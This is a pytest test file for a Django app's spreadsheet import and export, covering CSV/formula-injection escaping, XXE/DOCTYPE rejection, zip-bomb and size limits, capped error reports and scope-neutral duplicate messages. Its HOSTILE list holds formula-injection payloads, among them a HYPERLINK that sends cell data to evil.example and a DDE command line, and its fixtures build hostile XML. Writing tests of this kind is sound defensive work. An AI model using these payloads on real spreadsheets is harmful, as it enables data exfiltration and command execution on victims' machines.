"""Spreadsheets in and out (issue 8): exports never carry formulas and re-import as they were; uploads are refused
before parsing when over the limits (core/sheets.py LIMITS), hostile XML gives an import error, error reports are
capped; a code in use is refused with the same message inside and outside the actor's scope."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from tianmu.conftest import record_data
from tianmu.core.registry.io import ImportReport, _header, export_xlsx, import_xlsx, template_xlsx
from tianmu.core.registry.kinds import get_kind
from tianmu.core.registry.queries import visible
from tianmu.core.sheets import append_row, csv_value, escape_text, unescape_text, xlsx_value

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&C2,"点击查看")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",  # really begins with an apostrophe
    "''@x",
]
FORMULA_START = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r]")


# ------------------------------------------------------------------------------------------- cells out

@given(st.text())
def test_escape_is_undone_exactly_and_never_leaves_a_formula_start(text):
    escaped = escape_text(text)
    assert unescape_text(escaped) == text
    assert not FORMULA_START.match(escaped)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_get_one_apostrophe(text):
    assert escape_text(text) == "'" + text and csv_value(text) == "'" + text
    assert unescape_text("'" + text) == text


def test_plain_texts_and_numbers_are_left_alone():
    for text in ("避灾点", "'quoted", "a=b", "5-3", "1", ""):
        assert escape_text(text) == text and unescape_text(text) == text
    for value in (-5, -0.5, 3, None, True):
        assert xlsx_value(value) == value and csv_value(value) == value


def test_append_row_writes_text_as_text_and_numbers_as_numbers():
    wb = Workbook()
    append_row(wb.active, ["=1+1", -5, -0.25, "text", None])
    wb2 = Workbook(write_only=True)
    ws2 = wb2.create_sheet()
    append_row(ws2, ["=1+1", -5])
    cells = list(wb.active.iter_rows())[0]
    assert [c.data_type for c in cells[:4]] == ["s", "n", "n", "s"]
    assert cells[0].value == "'=1+1" and cells[1].value == -5
    for book in (wb, wb2):
        buf = io.BytesIO()
        book.save(buf)
        assert b"<f>" not in _member(buf, _sheet_path(buf))


def _sheet_path(buf) -> str:
    with zipfile.ZipFile(buf) as zf:
        return next(n for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))


def _member(buf, name: str) -> bytes:
    buf.seek(0)
    with zipfile.ZipFile(buf) as zf:
        return zf.read(name)


@pytest.fixture
def hostile(world):
    """Shelters in village A1 named with formulas, and a sensor whose range starts below zero."""
    from tianmu.core.registry.services import create_record

    admin = world["users"]["admin"]
    shelters = get_kind("shelters")
    for i, name in enumerate(HOSTILE):
        create_record(admin, shelters, record_data(shelters, world["village_a"], str(i), name=name, contact=name[:64],
                                                   notes=name))
    # As stored (forms strip surrounding spaces: "\t=1+1" is kept as "=1+1").
    return sorted(shelters.model.objects.values_list("name", flat=True))


def test_district_export_carries_no_formula_and_reimports_unchanged(world, hostile, client):
    kind = get_kind("shelters")
    client.force_login(world["users"]["commander"])
    r = client.get("/r/shelters/export.xlsx")
    assert r.status_code == 200
    buf = io.BytesIO(r.content)
    xml = _member(buf, _sheet_path(buf))
    assert b"<f>" not in xml and b"<f " not in xml
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = list(ws.iter_rows())
    names = {c.value for c in (row[1] for row in rows[1:])}
    assert names == {"'" + text for text in hostile}
    assert all(c.data_type == "s" for row in rows for c in row if isinstance(c.value, str))
    capacity = kind.editable_fields().index("capacity")
    assert all(row[capacity].data_type == "n" for row in rows[1:])

    # Re-imported as updates, nothing changes: the importer removes exactly the apostrophe the export added.
    staff = world["users"]["town_staff"]
    report = import_xlsx(staff, kind, io.BytesIO(r.content), dry_run=False, update_existing=True)
    assert report.ok and report.updated == 0, report.as_dict()
    assert sorted(kind.model.objects.values_list("name", flat=True)) == hostile
    # Imported as new records, the names are the original texts.
    wb = load_workbook(io.BytesIO(r.content))
    for row in wb.active.iter_rows(min_row=2):
        row[0].value = f"{row[0].value}-new"
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    report = import_xlsx(staff, kind, out, dry_run=False)
    assert report.ok and report.created == len(HOSTILE)
    assert sorted(kind.model.objects.filter(code__endswith="-new").values_list("notes", flat=True)) == hostile


def test_negative_numbers_stay_numbers_in_an_export(world):
    from tianmu.core.registry.services import create_record

    kind = get_kind("sensors")
    stations = get_kind("stations")
    admin = world["users"]["admin"]
    station = create_record(admin, stations, record_data(stations, world["village_a"], "neg"))
    create_record(admin, kind, record_data(kind, world["village_a"], "neg", name="-5", station=station.code,
                                           valid_min=-5, valid_max=50))
    ws = load_workbook(io.BytesIO(export_xlsx(visible(admin, kind), kind))).active
    row = list(ws.iter_rows())[1]
    fields = kind.editable_fields()
    assert row[fields.index("valid_min")].value == -5 and row[fields.index("valid_min")].data_type == "n"
    assert row[fields.index("name")].value == "'-5" and row[fields.index("name")].data_type == "s"


def test_control_characters_do_not_break_an_export(world, client):
    from tianmu.core.registry.services import create_record

    kind = get_kind("experts")
    create_record(world["users"]["admin"], kind, record_data(kind, world["village_a"], "bell",
                                                             notes="铃\x07声\x1b=1"))
    client.force_login(world["users"]["commander"])
    r = client.get("/r/experts/export.xlsx")
    assert r.status_code == 200
    notes = kind.editable_fields().index("notes")
    assert list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))[1][notes] == "铃声=1"


# ------------------------------------------------------------------------------------------- xlsx in

def _sheet(kind, rows) -> io.BytesIO:
    wb = Workbook()
    wb.active.append([_header(kind, n) for n in kind.editable_fields()])
    for row in rows:
        wb.active.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return buf


def _rewrite(buf: io.BytesIO, change) -> io.BytesIO:
    """The workbook with its first sheet's XML passed through change(bytes) -> bytes."""
    buf.seek(0)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            zout.writestr(info.filename, data)
    out.seek(0)
    return out


def _row(kind, world, suffix, **over):
    data = {**record_data(kind, world["village_a"], suffix), **over}
    return [data.get(n) for n in kind.editable_fields()]


def _refused(report, *words):
    assert not report.ok and report.rows == 0 and len(report.errors) == 1, report.as_dict()
    message = report.errors[0]["message"]
    assert all(w in message for w in words), message
    assert report.errors[0]["message_en"] and report.errors[0]["message_en"] != message
    return report.errors[0]


class Parsed(BaseException):  # not an Exception: the importer's "unreadable file" handler must not catch it
    pass


@pytest.fixture
def no_parse(monkeypatch):
    """Fail the test if openpyxl is asked to open the upload as a workbook."""
    import openpyxl.reader.excel

    def refuse(*args, **kwargs):
        raise Parsed("the upload was parsed")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    monkeypatch.setattr(openpyxl.reader.excel, "ExcelReader", refuse)


def test_a_doctype_with_entities_is_an_import_error(world, client):
    kind = get_kind("experts")
    staff = world["users"]["town_staff"]
    rows = [_row(kind, world, str(i)) for i in range(400)]  # the entity comes far after the dimension

    def entity(xml):
        xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "hello">]>' + xml.split(b"?>", 1)[-1]
        return xml.replace(b"</sheetData>", b'<row r="999"><c r="A999" t="inlineStr"><is><t>&e;</t></is></c></row>'
                                            b"</sheetData>")

    err = _refused(import_xlsx(staff, kind, _rewrite(_sheet(kind, rows), entity), dry_run=True), "DOCTYPE")
    assert err["row"] is None
    # An entity the sheet never declares, deep in the sheet (stdlib's ParseError while reading rows).
    undefined = _rewrite(_sheet(kind, rows), lambda xml: xml.replace(b"</sheetData>", b'<row r="999"><c r="A999" '
                                                                     b't="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData>'))
    _refused(import_xlsx(staff, kind, undefined, dry_run=True), "无法读取文件")
    client.force_login(staff)
    upload = SimpleUploadedFile("e.xlsx", _rewrite(_sheet(kind, rows), entity).getvalue())
    r = client.post("/api/v1/experts/import", {"file": upload, "dry_run": "true"})
    assert r.status_code == 200 and not r.json()["ok"] and "DOCTYPE" in r.json()["errors"][0]["message"]
    assert openpyxl.DEFUSEDXML


def test_a_zip_bomb_is_refused_before_parsing(world, settings, no_parse):
    kind = get_kind("experts")
    settings.TIANMU_IMPORT_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    # openpyxl cuts what it writes to 32,767 characters: write the 2 MiB cell into the XML.
    big = b'<row r="3"><c r="A3" t="inlineStr"><is><t>' + b"A" * (2 * 1024 * 1024) + b"</t></is></c></row>"
    bomb = _rewrite(_sheet(kind, [_row(kind, world, "bomb")]), lambda xml: xml.replace(b"</sheetData>",
                                                                                       big + b"</sheetData>"))
    assert len(bomb.getvalue()) < 64 * 1024
    _refused(import_xlsx(world["users"]["town_staff"], kind, bomb, dry_run=True), "解压后", "MiB")


def test_too_many_zip_members_or_bytes_are_refused_before_parsing(world, settings, no_parse):
    kind = get_kind("experts")
    staff = world["users"]["town_staff"]
    settings.TIANMU_IMPORT_MAX_ZIP_MEMBERS = 5
    _refused(import_xlsx(staff, kind, _sheet(kind, []), dry_run=True), "压缩成员", "5")
    settings.TIANMU_IMPORT_MAX_ZIP_MEMBERS = 500
    settings.TIANMU_IMPORT_MAX_BYTES = 1000
    _refused(import_xlsx(staff, kind, _sheet(kind, []), dry_run=True), "MiB")


def test_a_declared_million_rows_or_too_many_columns_are_refused_before_reading_rows(world):
    kind = get_kind("experts")
    staff = world["users"]["town_staff"]
    declared = _rewrite(_sheet(kind, []), lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:A1048576"',
                                                             xml))
    _refused(import_xlsx(staff, kind, declared, dry_run=True), "20000")
    wide = _rewrite(_sheet(kind, []), lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1"', xml))
    _refused(import_xlsx(staff, kind, wide, dry_run=True), "100")


def test_rows_beyond_the_limit_stop_the_reading(world, settings):
    kind = get_kind("experts")
    staff = world["users"]["town_staff"]
    settings.TIANMU_IMPORT_MAX_ROWS = 5
    rows = [_row(kind, world, str(i)) for i in range(6)]
    _refused(import_xlsx(staff, kind, _sheet(kind, rows), dry_run=True), "5")
    # Without a dimension, a last row at 1,048,576 is refused after the limit, not read to the end.
    far = _rewrite(_sheet(kind, rows[:1]), lambda xml: re.sub(rb"<dimension [^>]*/>", b"", xml).replace(
        b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'))
    _refused(import_xlsx(staff, kind, far, dry_run=True), "5")
    report = import_xlsx(staff, kind, _sheet(kind, rows[:5]), dry_run=True)
    assert report.ok and report.created == 5


def test_rows_and_cells_are_counted_before_any_row_is_parsed(world, settings, monkeypatch):
    import openpyxl.worksheet._reader

    kind = get_kind("experts")
    staff = world["users"]["town_staff"]

    def refuse(*args, **kwargs):
        raise Parsed("a row was parsed")

    monkeypatch.setattr(openpyxl.worksheet._reader, "WorkSheetParser", refuse)
    settings.TIANMU_IMPORT_MAX_ROWS = 5
    undeclared = lambda xml: re.sub(rb"<dimension [^>]*/>", b"", xml)  # noqa: E731
    rows = [_row(kind, world, str(i)) for i in range(6)]
    _refused(import_xlsx(staff, kind, _rewrite(_sheet(kind, rows), undeclared), dry_run=True), "5")
    # One row of 101 cells, under a namespace prefix as some writers use, without a declared extent.
    wide = b"".join(b'<x:c r="%s2" t="inlineStr"><x:is><x:t>v</x:t></x:is></x:c>' % get_column_letter(i).encode()
                    for i in range(1, 102))
    prefixed = _rewrite(_sheet(kind, []), lambda xml: undeclared(xml).replace(
        b"</sheetData>", b'<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="2">' + wide +
        b"</x:row></sheetData>"))
    _refused(import_xlsx(staff, kind, prefixed, dry_run=True), "100")


def test_a_cell_too_long_is_refused_with_its_place(world, settings):
    kind = get_kind("experts")
    settings.TIANMU_IMPORT_MAX_CELL_CHARS = 30  # the code, in column A, has 24
    err = _refused(import_xlsx(world["users"]["town_staff"], kind, _sheet(kind, [_row(kind, world, "x", name="名" * 31)]),
                               dry_run=True), "30")
    assert (err["row"], err["column"]) == (2, "B")


def test_error_reports_list_the_first_errors_and_count_them_all(world, settings, client):
    kind = get_kind("experts")
    staff = world["users"]["town_staff"]
    settings.TIANMU_IMPORT_MAX_ERRORS = 3
    rows = [_row(kind, world, str(i), region="330112999999") for i in range(10)]
    report = import_xlsx(staff, kind, _sheet(kind, rows), dry_run=True)
    assert report.error_count == 10 and [e["row"] for e in report.errors] == [2, 3, 4] and report.truncated
    client.force_login(staff)
    upload = SimpleUploadedFile("e.xlsx", _sheet(kind, rows).getvalue())
    body = client.post("/api/v1/experts/import", {"file": upload, "dry_run": "true"}).json()
    assert body["error_count"] == 10 and len(body["errors"]) == 3 and not body["ok"]
    upload = SimpleUploadedFile("e.xlsx", _sheet(kind, rows).getvalue())
    r = client.post("/r/experts/import/", {"file": upload})
    assert r.status_code == 200 and "发现 10 处问题" in r.text and 'id="import-truncated"' in r.text


def test_a_capped_report_keeps_the_lowest_rows_whatever_the_order(settings):
    settings.TIANMU_IMPORT_MAX_ERRORS = 3
    report = ImportReport()
    for row in (10, 11, 12, 13, 2, 14, 3, 4, 5):
        report.add(row, "A", "x", "问题")
    assert report.error_count == 9 and sorted(e["row"] for e in report.errors) == [2, 3, 4]


def test_page_import_keeps_no_refused_upload_and_survives_a_bad_token(world, settings, client, tmp_path, monkeypatch):
    from tianmu.core.registry import views

    monkeypatch.setattr(views, "IMPORT_DIR", tmp_path)
    kind = get_kind("experts")
    client.force_login(world["users"]["town_staff"])
    settings.TIANMU_IMPORT_MAX_BYTES = 1000
    upload = SimpleUploadedFile("e.xlsx", _sheet(kind, [_row(kind, world, "p")]).getvalue())
    r = client.post("/r/experts/import/", {"file": upload})
    assert r.status_code == 200 and "MiB" in r.text and not r.context["token"]
    assert list(tmp_path.iterdir()) == []
    r = client.post("/r/experts/import/", {"token": "not-a-uuid"})
    assert r.status_code == 302


def test_the_template_is_still_a_plain_sheet(world):
    kind = get_kind("shelters")
    wb = load_workbook(io.BytesIO(template_xlsx(kind)))
    assert [c.value for c in wb.active[1]] == [_header(kind, n) for n in kind.editable_fields()]


# ------------------------------------------------------------------------------------------- codes in use

def test_a_code_in_use_gets_the_same_answer_inside_and_outside_scope(world, records, client):
    kind = get_kind("shelters")
    staff = world["users"]["town_staff"]
    client.force_login(staff)
    answers = []
    for holder in ("a", "b"):
        body = record_data(kind, world["village_a"], "dup", code=records["shelters"][holder].code)
        r = client.post("/api/v1/shelters/", body, content_type="application/json")
        assert r.status_code == 422
        answers.append(r.json())
    assert answers[0] == answers[1]
    assert [e["field"] for e in answers[0]["errors"]] == ["code"]
    assert answers[0]["errors"][0]["message_en"] == "This code is already in use; choose another"
    texts = str(answers)
    assert world["town_b"].name not in texts and records["shelters"]["b"].name not in texts

    # The page form: only the neutral message.
    body = record_data(kind, world["village_a"], "dup", code=records["shelters"]["b"].code)
    r = client.post("/r/shelters/new/", body)
    assert r.status_code == 200 and "该编码已被使用" in r.text and "已存在" not in r.text


def test_import_updating_existing_does_not_reveal_records_outside_scope(world, records):
    kind = get_kind("shelters")
    staff = world["users"]["town_staff"]
    reports = []
    for holder in ("a", "b"):
        row = _row(kind, world, "upd", code=records["shelters"][holder].code, region=None, capacity=77)
        reports.append(import_xlsx(staff, kind, _sheet(kind, [row]), dry_run=False, update_existing=holder == "b"))
    inside, outside = reports
    assert not outside.ok and outside.updated == 0
    assert [(e["row"], e["field"], e["message"]) for e in outside.errors] == \
        [(e["row"], e["field"], e["message"]) for e in inside.errors] == [(2, "code", "该编码已被使用,请换一个编码")]
    records["shelters"]["b"].refresh_from_db()
    assert records["shelters"]["b"].capacity != 77
    # Inside scope, updating is what the flag asks for.
    row = _row(kind, world, "upd", code=records["shelters"]["a"].code, capacity=77)
    assert import_xlsx(staff, kind, _sheet(kind, [row]), dry_run=False, update_existing=True).updated == 1
